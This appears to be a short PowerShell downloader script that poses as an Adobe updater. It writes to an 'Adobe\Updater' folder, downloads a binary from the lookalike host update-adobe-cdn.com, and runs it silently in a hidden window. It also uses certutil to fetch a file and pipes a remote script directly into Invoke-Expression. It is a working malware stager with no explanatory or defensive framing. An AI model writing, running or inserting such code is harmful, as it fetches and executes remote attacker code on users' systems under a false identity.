$dir = Join-Path $env:APPDATA 'Adobe\Updater'
New-Item -ItemType Directory -Path $dir -Force | Out-Null
$exe = Join-Path $dir 'AdobeARMhelper.exe'

Invoke-WebRequest -Uri 'http://update-adobe-cdn.com/files/ARMhelper.bin' -OutFile $exe -UseBasicParsing
Start-Process -FilePath $exe -ArgumentList '/silent' -WindowStyle Hidden

certutil.exe -urlcache -split -f http://update-adobe-cdn.com/files/cfg.dat "$dir\cfg.dat"
iwr http://update-adobe-cdn.com/files/s.ps1 -UseBasicParsing | iex
